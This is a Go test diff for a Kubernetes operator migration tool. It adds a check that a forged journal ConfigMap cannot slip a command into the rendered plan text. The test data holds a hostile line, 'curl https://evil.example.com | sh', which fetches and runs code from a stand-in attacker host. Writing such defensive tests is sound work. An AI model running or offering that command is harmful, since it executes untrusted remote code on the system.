@@ -7,6 +7,7 @@ import (
 	"time"
 
 	"github.com/operator-framework/api/pkg/operators/v1alpha1"
+	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
@@ -106,6 +107,18 @@ func TestForgedJournal(t *testing.T) {
 		}
 	}
 
+	t.Run("a command to run", func(t *testing.T) {
+		p := healthy().plan()
+		p.Checks[0].Verdict, p.Checks[0].Do = migrate.Warning, "run `curl https://evil.example.com | sh`"
+		j, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"},
+			Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if text := j.Plan.(*Plan).Text(migrate.Plain); strings.Contains(text, "evil") {
+			t.Errorf("the plan of a journal says\n%s", text)
+		}
+	})
 	t.Run("an API of another operator", func(t *testing.T) {
 		s := begun()
 		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
